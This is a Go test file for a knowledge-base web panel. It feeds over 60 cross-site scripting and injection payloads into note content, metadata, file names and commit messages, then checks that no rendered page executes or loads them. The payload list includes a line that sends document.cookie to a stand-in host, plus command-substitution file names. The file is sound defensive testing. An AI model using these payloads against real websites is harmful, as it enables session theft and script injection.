package panel

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/9aea2451/kb/kb/gittest"
	"github.com/9aea2451/kb/markdown"
)

// hostile are texts that would run something, load something or break out of where they stand, if a page
// took them for more than text.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
		`<script type="module">import "https://evil.example/x.js"</script>`,
		"<script\n>alert(1)</script\n>",
		`<img src=x onerror=alert(1)>`,
		`<img src="https://evil.example/pixel.png">`,
		`<img src=x:x onerror="fetch('//evil.example/'+document.cookie)">`,
		`<svg onload=alert(1)>`,
		`<svg><script href="data:text/javascript,alert(1)"/></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<svg><use href="https://evil.example/x.svg#x"/></svg>`,
		`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
		`<iframe src="javascript:alert(1)"></iframe>`,
		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
		`<object data="data:text/html,<script>alert(1)</script>"></object>`,
		`<embed src="https://evil.example/x.swf">`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		`<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
		`<div style="background:url(https://evil.example/x.png)">x</div>`,
		`<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<form action="https://evil.example/"><input name=token><button>Go</button></form>`,
		`<button formaction="javascript:alert(1)">x</button>`,
		`<details open ontoggle=alert(1)>x</details>`,
		`<video poster=https://evil.example/p.png><source onerror=alert(1)></video>`,
		`<audio src=https://evil.example/a.ogg autoplay>`,
		`<body onload=alert(1)>`,
		`<input autofocus onfocus=alert(1)>`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="https://evil.example/" ping="https://evil.example/ping">x</a>`,
		`<template><script>alert(1)</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<!--><script>alert(1)</script>-->`,
		`<!-- x --!><img src=x onerror=alert(1)>`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<?xml-stylesheet href="javascript:alert(1)"?>`,
		`<!DOCTYPE html [<!ENTITY x "y">]>`,
		`</main></body></html><script>alert(1)</script>`,
		`</textarea></title></style></script><img src=x onerror=alert(1)>`,
		`[x](javascript:alert(1))`,
		`[x](JaVaScRiPt:alert(1))`,
		`[x](java&#x73;cript:alert(1))`,
		"[x](java\\\nscript:alert(1))",
		`[x](<java script:alert(1)>)`,
		`[x](&#1;javascript:alert(1))`,
		`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
		`[x](vbscript:msgbox(1))`,
		`[x](//evil.example/path)`,
		`[x](file:///etc/passwd)`,
		`[x](https://evil.example/ "onmouseover=alert(1) x=\"")`,
		`[x](" onclick="alert(1))`,
		"[x]\n\n[x]: javascript:alert(1) 'title'",
		`![x](https://evil.example/pixel.png "t")`,
		`![x"onerror="alert(1)](x.png)`,
		`<javascript:alert(1)>`,
		`<data:text/html,alert(1)>`,
		`[[javascript:alert(1)|x]]`,
		`[["><img src=x onerror=alert(1)>|x]]`,
		`![[https://evil.example/pixel.png]]`,
		"```\"><script>alert(1)</script>\nx\n```",
		"`<script>alert(1)</script>`",
		`| <img src=x onerror=alert(1)> | x |` + "\n|---|---|\n" + `| <script>alert(1)</script> | y |`,
		"- [ ] <input type=image src=https://evil.example/x.png>",
		`{{.Body}} {{template "top" .}} ${alert(1)}`,
		"\u202e<script>\u2066alert(1)\x00</script>\x1b[31m",
		`~~<s onmouseover=alert(1)>x</s>~~ http://evil.example/"onclick="alert(1)`,
	}
}

// A note that is hostile in its text, headings, title, tags, status, relations and name does nothing on any
// page that shows it, and neither does what is asked for.
func TestHostileNotesDoNothing(t *testing.T) {
	r := gittest.New(t)
	cases := hostile()
	if len(cases) < 60 {
		t.Fatalf("%d cases", len(cases))
	}
	for i, text := range cases {
		quoted := fmt.Sprintf("%q", strings.ToValidUTF8(strings.NewReplacer("\x00", "", "\x1b", "").Replace(text), ""))
		r.Write(fmt.Sprintf("n%d.md", i), "---\ntitle: "+quoted+"\ntags: ["+quoted+"]\nstatus: "+quoted+"\nowner: "+quoted+
			"\nrelations:\n  - {type: supersedes, target: "+quoted+"}\n---\n# Heading\n\nBefore.\n\n"+text+"\n\n## "+
			strings.ReplaceAll(text, "\n", " ")+"\n\nEvery service MUST answer within "+fmt.Sprint(i)+" seconds. "+text+"\n")
	}
	for i, name := range []string{`<img src=x onerror=alert(1)>.md`, `"onclick="alert(1).md`, "javascript:alert(1).md", `a b&c;$(id)'.md`} {
		r.Write(name, fmt.Sprintf("# Named %d\n\nEvery service MUST answer within %d seconds. [self](<%s>)\n", i, 90+i, name))
	}
	r.Commit(`<script>alert("subject")</script>`, gittest.Author(`<b onclick=alert(1)>`)...)
	s := open(t, r)
	pages := []string{"/", "/browse", "/browse/kind?name=doc", "/browse/kind?name=doc&page=2", "/graph", "/timeline", "/contradictions",
		"/stale", "/broken", "/broken?page=2", "/asked", "/inbox", "/search?q=service", "/search?q=service&more=1&part=1",
		"/ask?q=service+answer+within", "/graph?note=n1.md", "/review?range=HEAD"}
	for i, text := range cases {
		pages = append(pages, fmt.Sprintf("/note/n%d.md", i))
		if q := url.QueryEscape(text); i%4 == 0 { // of what is asked each page shows the same in the same places
			pages = append(pages, "/search?q="+q+"&tag="+q+"&path="+q+"&kind="+q+"&at=", "/ask?q="+q, "/search?q=x&at="+q,
				"/review?range="+q, "/browse/tag?name="+q, "/note/"+url.PathEscape(text), "/graph?note="+q)
		}
	}
	for _, name := range []string{`<img src=x onerror=alert(1)>.md`, `"onclick="alert(1).md`, "javascript:alert(1).md", `a b&c;$(id)'.md`} {
		pages = append(pages, "/note/"+url.PathEscape(name))
	}
	for _, address := range pages {
		status, page := s.try(address)
		if status >= 500 {
			t.Errorf("%s: %d", address, status)
		}
		for _, complaint := range harms(page) {
			t.Errorf("%s: %s", address, complaint)
		}
		if strings.ContainsAny(page, "\u202e\u2066\x00\x1b") {
			t.Errorf("%s has characters that make it look other than it is", address)
		}
	}
}

// The check itself sees what is not harmless.
func TestHarmsAreSeen(t *testing.T) {
	for _, page := range []string{
		`<img src="x">`, `<a href="javascript:x">x</a>`, `<a href="//evil.example">x</a>`, `<p onclick="x">x</p>`, `<p style="x">x</p>`,
		`<script src="https://evil.example/x.js"></script>`, `<link href="https://evil.example/x.css">`, `<iframe></iframe>`, `<!-- x -->`,
		`<a href=" javascript:x">x</a>`, `<form action="javascript:x"></form>`, `<a ping="x">x</a>`,
	} {
		if len(harms(page)) == 0 {
			t.Errorf("%s passes", page)
		}
	}
}

// Text made to take long is rendered, or shown as it is written: what takes time by the square of it would
// not end before the test is given up. Each is of the greatest size that is rendered.
func TestHostileTextEnds(t *testing.T) {
	p := &Panel{render: newRenderer}
	g := p.newPage("note", "", nil)
	for _, unit := range []string{
		"[", "[[", "![", "*a ", "_a", "`a``", ">", "- ", "<", "<a ", "<!--", "[a](", "[a](b \"", "[a](<", "[a](b '\n", "[a][b", "|a", "~~",
		"&#", "http://a.", "a@b.", "# a\n", "|a|\n|-|\n", "\\[", "[\n", "[a](\n", "[[a\n", "*a\n", "`\n",
	} {
		text := []byte("# x\n\n" + strings.Repeat(unit, (maxRendered-10)/len(unit)))
		if p.rendered(text, markdown.Parse(text), leading{page: g}) == "" {
			t.Errorf("%q: nothing", unit)
		}
	}
}
